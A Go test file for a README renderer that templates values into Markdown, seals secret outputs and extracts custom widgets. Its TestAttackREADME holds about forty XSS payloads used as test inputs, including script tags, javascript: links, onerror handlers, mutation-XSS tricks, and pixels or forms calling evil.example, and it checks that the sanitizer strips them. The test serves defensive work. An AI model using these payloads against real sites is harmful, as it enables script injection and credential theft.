package readme_test

import (
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/net/html"

	"github.com/berth-dev/berth/services/ctl-api/internal/readme"
)

var tree = map[string]any{
	"name":   "acme",
	"inputs": map[string]any{"populated": true, "inputs": map[string]any{"greeting": "Ahoy", "evil": `<script>alert(1)</script><img src=//evil.example/x>`}},
	"components": map[string]any{"api": map[string]any{"outputs": map[string]any{
		"url": "https://acme.example", "password": map[string]any{"$sealed": "c2VhbGVk"},
	}}},
}

func render(t *testing.T, source string) readme.Page {
	t.Helper()
	page, err := readme.Render(source, tree, time.Date(2026, 11, 24, 0, 0, 0, 0, time.UTC))
	if err != nil {
		t.Fatal(err)
	}
	return page
}

func TestRender(t *testing.T) {
	t.Parallel()
	page := render(t, "# {{ .nuon.name }}\n\n{{ if .nuon.inputs.inputs.greeting }}Go to [it]({{ .nuon.components.api.outputs.url }}).{{ end }}\n\n| a | b |\n|---|--:|\n| `{{ .nuon.components.api.outputs.password }}` | 2 |\n")
	want := `<h1>acme</h1>
<p>Go to <a href="https://acme.example" rel="nofollow noreferrer noopener" target="_blank">it</a>.</p>
<table>
<thead>
<tr>
<th>a</th>
<th>b</th>
</tr>
</thead>
<tbody>
<tr>
<td><code>(sealed)</code></td>
<td>2</td>
</tr>
</tbody>
</table>
`
	if diff := cmp.Diff(want, page.HTML); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	if _, err := readme.Render("{{ .nuon.components.nope.outputs.x }}", tree, time.Time{}); err == nil || !strings.Contains(err.Error(), "nope") {
		t.Errorf("a path that is not there: %v", err)
	}
}

func TestWidgets(t *testing.T) {
	t.Parallel()
	page := render(t, "<nuon-banner theme=\"warn\" onclick=\"steal()\">Hello <b>{{ .nuon.name }}</b></nuon-banner>\n\n<berth-component-card name=\"api\"></berth-component-card>\n\n> [!TIP]\n> Look *there*.\n\n```mermaid\na --> b\n```\n\n<div data-widget=\"0\">not one</div>\n")
	want := []readme.Widget{
		{Type: "banner", Attributes: map[string]string{"theme": "warn", "onclick": "steal()"}, Text: "Hello acme"},
		{Type: "component-card", Attributes: map[string]string{"name": "api"}},
		{Type: "callout", Attributes: map[string]string{"theme": "tip"}, Text: "Look there."},
		{Type: "mermaid", Attributes: map[string]string{}, Text: "a --> b"},
	}
	if diff := cmp.Diff(want, page.Widgets); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	places := regexp.MustCompile(`data-widget="(\d)"`).FindAllString(page.HTML, -1)
	if diff := cmp.Diff([]string{`data-widget="0"`, `data-widget="1"`, `data-widget="2"`, `data-widget="3"`}, places); diff != "" {
		t.Errorf("places (-want +got):\n%s\n%s", diff, page.HTML)
	}
}

// What is left of each of these is parsed again: no element and no attribute that
// runs, fetches or posts, whatever it is written like.
func TestAttackREADME(t *testing.T) {
	t.Parallel()
	elements := map[string]bool{}
	for _, name := range strings.Fields("p br hr h1 h2 h3 h4 h5 h6 blockquote pre code kbd samp em strong b i s del ins sub sup mark small ul ol li dl dt dd table thead tbody tfoot tr th td details summary div span a") {
		elements[name] = true
	}
	for _, source := range []string{
		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, "{{ .nuon.inputs.inputs.evil }}", `<nuon-tab title="x"><script>alert(1)</script></nuon-tab>`,
		`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, `<a href="java&#x0A;script:alert(1)">x</a>`, `[x](data:text/html;base64,PHNjcmlwdD4=)`, `<a href="vbscript:x">x</a>`, `<a href="//evil.example">x</a>`,
		`![x](https://evil.example/pixel.png)`, `<img src="https://evil.example/x" onerror="alert(1)">`, `<picture><source srcset="https://evil.example/x"></picture>`, `![x][r]` + "\n\n[r]: https://evil.example/x",
		`<svg onload="alert(1)"><image href="https://evil.example/x"/></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>`,
		`<iframe src="https://evil.example"></iframe>`, `<object data="x"></object>`, `<embed src="x">`, `<video poster="https://evil.example/x"></video>`, `<audio src="https://evil.example/x" autoplay></audio>`,
		`<link rel="stylesheet" href="https://evil.example/x.css">`, `<style>@import url(https://evil.example/x)</style>`, `<div style="background:url(https://evil.example/x)">x</div>`, `<body background="https://evil.example/x">`, `<table background="https://evil.example/x"><tr><td>x</td></tr></table>`,
		`<base href="https://evil.example/">`, `<meta http-equiv="refresh" content="0;url=https://evil.example">`, `<form action="https://evil.example"><input name="password"><button>ok</button></form>`,
		`<a href="https://ok.example" ping="https://evil.example" onclick="alert(1)">x</a>`, `<p id="app" class="modal" onmouseover="alert(1)">x</p>`, `<input autofocus onfocus=alert(1)>`,
		"```\"><script>alert(1)</script>\nx\n```", "```language onload=alert(1)\nx\n```", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<template><script>alert(1)</script></template>`,
		`<div data-widget='0" onclick="alert(1)'>x</div>`, `<nuon-x><![CDATA[<img src=x onerror=alert(1)>]]></nuon-x>`, `<!--><img src=x onerror=alert(1)>-->`, strings.Repeat("> ", 3000) + "x", strings.Repeat("<b>", 400) + "<script>1</script>",
	} {
		page, err := readme.Render(source, tree, time.Time{})
		if err != nil {
			continue // refused whole
		}
		nodes, err := html.Parse(strings.NewReader(page.HTML))
		if err != nil {
			t.Errorf("%.80q: %v", source, err)
			continue
		}
		for n := range nodes.Descendants() {
			if n.Type != html.ElementNode || n.Data == "html" || n.Data == "head" || n.Data == "body" {
				continue
			}
			if !elements[n.Data] {
				t.Errorf("%.80q leaves <%s>: %s", source, n.Data, page.HTML)
			}
			for _, a := range n.Attr {
				switch a.Key {
				case "href":
					if !strings.HasPrefix(a.Val, "https://ok.example") {
						t.Errorf("%.80q leaves a link to %q", source, a.Val)
					}
				case "rel", "target", "align", "start", "open", "data-widget":
				case "class":
					if !regexp.MustCompile(`^language-[a-zA-Z0-9+#-]+$`).MatchString(a.Val) {
						t.Errorf("%.80q leaves the class %q", source, a.Val)
					}
				default:
					t.Errorf("%.80q leaves %s=%q on <%s>", source, a.Key, a.Val, n.Data)
				}
			}
		}
	}
}
